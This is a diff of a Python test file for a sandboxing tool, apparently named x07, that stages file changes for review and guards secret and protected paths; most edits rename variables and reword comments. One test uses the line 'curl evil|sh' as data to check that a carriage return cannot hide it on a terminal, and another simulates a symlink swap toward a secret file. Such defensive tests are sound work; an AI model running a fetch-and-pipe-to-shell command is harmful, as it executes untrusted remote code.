@@ -331,7 +331,7 @@ def test_a_root_that_is_the_policy_is_protected(run: Run) -> None:
     assert (changes.state, [denial.field for denial in denials]) == ("kept", ["protected"])
 
 
-def said(changes: Changes, denials: list[Denial]) -> list[str]:
+def messages(changes: Changes, denials: list[Denial]) -> list[str]:
     """The printed lines."""
     return lines(msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials)))
 
@@ -363,10 +363,10 @@ def test_a_protected_root_is_named_by_path(run: Run) -> None:
     jenkins.touch(0o644)
     files = run.files({"write_roots": (str(ci), str(jenkins))}, changes="all-or-nothing")
     task, other = (Entry(Kind.FILE, name, mode=0o600) for name in (b"x.yml", b""))
-    told, denials, _ = run.back(files, task, Entry(Kind.ROOT, b"1"), other)
+    kept_back, denials, _ = run.back(files, task, Entry(Kind.ROOT, b"1"), other)
     assert [denial.subject.partition(":")[0] for denial in denials] == [f"{ci}/x.yml", str(jenkins)]
     assert flag_of(denials[1]) == ["--allow-protected", "Jenkinsfile"]
-    assert any(f"{jenkins}: jenkinsfile* is protected" in line for line in said(told, denials))
+    assert any(f"{jenkins}: jenkinsfile* is protected" in line for line in messages(kept_back, denials))
     changes = find(RUN).changes
     assert f"# may not be done: {jenkins}: ".encode() in b"".join(pieces(find(RUN)))
     with pytest.raises(RefusedError, match=r"x\.yml"):
@@ -393,7 +393,7 @@ def test_a_name_in_two_roots_is_skipped_by_path(run: Run) -> None:
     files = run.files({"write_roots": (str(one), str(two))}, changes="keep")
     gone = Entry(Kind.DELETED, b"x")
     changes, denials, _ = run.back(files, gone, Entry(Kind.ROOT, b"1"), gone)
-    assert said(changes, denials)[:2] == [f"would be deleted: {place}/x" for place in (one, two)]
+    assert messages(changes, denials)[:2] == [f"would be deleted: {place}/x" for place in (one, two)]
     left = chosen(find(RUN).changes, [f"{one}/x"], [])
     assert [root.root for root in left.roots if root.changes] == [str(two)]
 
@@ -469,13 +469,13 @@ def test_a_left_out_entry_is_never_replaced(
     changes, denials, _ = run.back(files, *gone if taken else [Entry(Kind.FOLDER, b"f/d/" + left.encode(), mode=0o755)])
     alone = "1 more may not be brought back" if left == "deep" else "1 of them may not be done"  # nothing too deep is
     assert (changes.state, changes.reason) == ("kept", "2 of them may not be done" if taken else alone)
-    told = "\n".join(said(changes, denials))
+    text = "\n".join(messages(changes, denials))
     if taken:
-        assert f"f: f/d/{left} is in it, which was not copied in" in told
+        assert f"f: f/d/{left} is in it, which was not copied in" in text
     how = denials[0].how_to_allow
     assert how is not None
     words: dict[str, Any] = {} if more else {"reveal": (flag_of(denials[0])[1],)}
-    assert ("use --reveal key.pem" if words else f"set {how.json_path}".replace("$.", "")) in told
+    assert ("use --reveal key.pem" if words else f"set {how.json_path}".replace("$.", "")) in text
     assert how.value == next(iter(more.values()), None)
     assert f"f/d/{left}" in run.files({**fs, **more}, changes="discard", **words).copied[0].nodes
 
@@ -560,7 +560,7 @@ def test_a_root_below_a_left_out_entry_is_copied(
     roots["write_roots"] = (*roots["write_roots"], str(place))
     files = run.files(roots)
     if inner == "sub/missing" and outer == "write_roots":
-        assert packed(files) == [ways]  # what is missing where it may be made is made there
+        assert packed(files) == [ways]  # a missing root is made where that is allowed
         return
     own = {"in"} if inner.endswith("/") else {"one.pem"} if "one" in inner else set()
     assert packed(files) == [ways, own]
@@ -577,13 +577,13 @@ def test_changes_of_a_nested_root_are_its_own(run: Run) -> None:
     (inner.parent / "credentials").write_text("secret")
     both = {"write_roots": (str(run.root), str(inner))}
 
-    def told(*entries: Entry) -> tuple[Changes, list[Denial], str]:
+    def outcome(*entries: Entry) -> tuple[Changes, list[Denial], str]:
         files = run.files(both, changes="all-or-nothing")
         return run.back(files, *entries)
 
     made = Entry(Kind.FOLDER, b"made", mode=0o755)
     for name in (b".aws/other", b".aws/new/x"):
-        changes, (denial,), _ = told(Entry(Kind.FOLDER, name, mode=0o755), Entry(Kind.ROOT, b"1"), made)
+        changes, (denial,), _ = outcome(Entry(Kind.FOLDER, name, mode=0o755), Entry(Kind.ROOT, b"1"), made)
         assert (changes.state, denial.field) == ("kept", "secrets")
         assert flag_of(denial) == ["--reveal", ".aws"]
         (run.folder.path / "changes/changes.json").unlink()
@@ -592,11 +592,11 @@ def test_changes_of_a_nested_root_are_its_own(run: Run) -> None:
     (inner / "k.pem").touch()
     both = {"write_roots": (str(run.root), f"{inner}/k.pem")}
     gone = [Entry(Kind.DELETED, name) for name in (b".aws/new/k.pem", b".aws/new", b".aws")]
-    assert told(*gone)[0].state == "kept"  # with all around it, and the machine has told the truth
+    assert outcome(*gone)[0].state == "kept"  # with all around it, and the machine has told the truth
     shutil.rmtree(run.folder.path / "changes")
     (inner / "k.pem").unlink()
     both = {"write_roots": (str(run.root), str(inner))}
-    changes, denials, _ = told(made, Entry(Kind.ROOT, b"1"), made)
+    changes, denials, _ = outcome(made, Entry(Kind.ROOT, b"1"), made)
     assert (changes.state, denials) == ("applied", [])
     assert sorted(str(path.relative_to(run.root)) for path in run.root.rglob("made")) == [".aws/new/made", "made"]
 
@@ -682,9 +682,9 @@ def test_a_failed_recovery_names_its_journal(run: Run) -> None:
     place = Place(path=str(run.root / "gone"), ident=(1, 1), staging=".x07-apply-1")
     journal.write(folder, Head(run=RUN, places=(place,)), [])
     private_dir(run.folder.path.parent / ".applying").joinpath(RUN).touch()
-    told: list[str] = []
-    recover_all(told.append)
-    (text,) = told
+    printed: list[str] = []
+    recover_all(printed.append)
+    (text,) = printed
     assert "remove the journal" in text
     assert text.endswith(f"The journal is below {folder}.")
     assert (folder / "journal").exists()
@@ -709,11 +709,11 @@ def test_apply_distinguishes_skipped_and_applied(run: Run, capsys: pytest.Captur
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
     save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    said = []
+    printed = []
     for words in (["--skip", "a"], [], []):
         assert main(["apply", *words]) == 0
-        said.append(capsys.readouterr().err)
-    assert said == [
+        printed.append(capsys.readouterr().err)
+    assert printed == [
         "x07: nothing is left to apply\n",
         "x07: 1 added: applied; x07 undo\n",
         "x07: all of it is there already\n",
@@ -725,12 +725,12 @@ def test_the_apply_document_lists_changes(run: Run, capsys: pytest.CaptureFixtur
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
     save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    told = []
+    listed = []
     for words in (["--skip", "a"], [], []):
         assert main(["apply", "--json", *words]) == 0
         roots = json.loads(capsys.readouterr().out)["roots"]
-        told.append([change["name"] for root in roots for change in root["changes"]])
-    assert told == [[], ["a"], []]
+        listed.append([change["name"] for root in roots for change in root["changes"]])
+    assert listed == [[], ["a"], []]
 
 
 def test_undo_lists_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
@@ -741,8 +741,8 @@ def test_undo_lists_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> N
     assert main(["apply"]) == 0
     capsys.readouterr()
     assert main(["undo"]) == 0
-    told = [f"x07: deleted: {change.name}" for change in made]
-    assert capsys.readouterr().err.splitlines() == [*told, "x07: 3 added: undone; x07 apply"]
+    deletions = [f"x07: deleted: {change.name}" for change in made]
+    assert capsys.readouterr().err.splitlines() == [*deletions, "x07: 3 added: undone; x07 apply"]
 
 
 ROOTS: list[tuple[list[str], list[str], set[str]]] = [
@@ -795,13 +795,15 @@ MADE: list[tuple[list[Entry], dict[str, int] | None]] = [
 ]
 
 
-@pytest.mark.parametrize(("told", "there"), MADE)
-def test_a_missing_root_is_made_in_the_one_around_it(run: Run, told: list[Entry], there: dict[str, int] | None) -> None:
+@pytest.mark.parametrize(("entries", "there"), MADE)
+def test_a_missing_root_is_made_in_the_one_around_it(
+    run: Run, entries: list[Entry], there: dict[str, int] | None
+) -> None:
     """A missing root exists for the program, and on the host only if it is used."""
     fs = {"allow_mkdir": False, "allow_remove": False, "allow_rename": False}
     files = run.files({"write_roots": (str(run.root), f"{run.root}/new"), **fs})
     assert packed(files) == [{"new"}]
-    changes, denials, _ = run.back(files, *told)
+    changes, denials, _ = run.back(files, *entries)
     assert (changes.state, denials) == ("none" if there is None else "applied", [])
     found = {str(path.relative_to(run.root)): path.lstat().st_mode for path in run.root.rglob("*")}
     assert found == (there or {})
@@ -867,8 +869,8 @@ def test_a_result_names_every_deletion(run: Run) -> None:
     for name in gone:
         (run.root / name).touch()
     files = run.files(changes="keep")
-    told = [Entry(Kind.DELETED, name.encode()) for name in gone]
-    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *told)
+    deletions = [Entry(Kind.DELETED, name.encode()) for name in gone]
+    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *deletions)
     assert {(one.name, one.action) for one in changes.names} == {(name, "deleted") for name in gone}
     assert len(changes.names) == changes.deleted == len(gone)
 
@@ -884,8 +886,8 @@ def test_every_deletion_is_printed(run: Run, capsys: pytest.CaptureFixture[str])
     names = tuple(ChangedName(root=str(run.root), name=name, action="deleted") for name in sorted(gone))
     for added, roots, above in ((0, (root,), ""), (1, (root, other), f"{run.root}/")):
         save_set(ChangeSet(run=RUN, roots=roots), run.folder.path)
-        told = Changes(state="kept", added=added, deleted=1500, names=names)
-        tell(msgspec.structs.replace(result(), run=RUN, changes=told))
+        changed = Changes(state="kept", added=added, deleted=1500, names=names)
+        tell(msgspec.structs.replace(result(), run=RUN, changes=changed))
         lines = [
             line for line in capsys.readouterr().err.splitlines() if "deleted: gone" in line or "deleted: /" in line
         ]
@@ -907,7 +909,7 @@ def test_a_patch_lists_unsupported_entries(run: Run) -> None:
 def test_a_carriage_return_hides_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
     """A carriage return in a patch cannot hide text on a terminal."""
     ours, theirs = pty.openpty()
-    tty.setraw(theirs)  # so that what comes is what was written
+    tty.setraw(theirs)  # so that bytes arrive as written
     with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
         monkeypatch.setattr(sys, "stdout", terminal)
         print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
@@ -924,7 +926,7 @@ def test_a_swapped_link_ends_the_run(run: Run, monkeypatch: pytest.MonkeyPatch) 
     (other / "in").mkdir(parents=True)
     (other / "in" / "secret").write_text("x")
 
-    def exchange(text: str) -> None:  # what a run says before it copies: the roots are chosen by then
+    def exchange(text: str) -> None:  # the question that a run asks before it copies, after it chose the roots
         if text.startswith("copying"):
             outer.rename(run.root / "moved")
             outer.symlink_to(other)
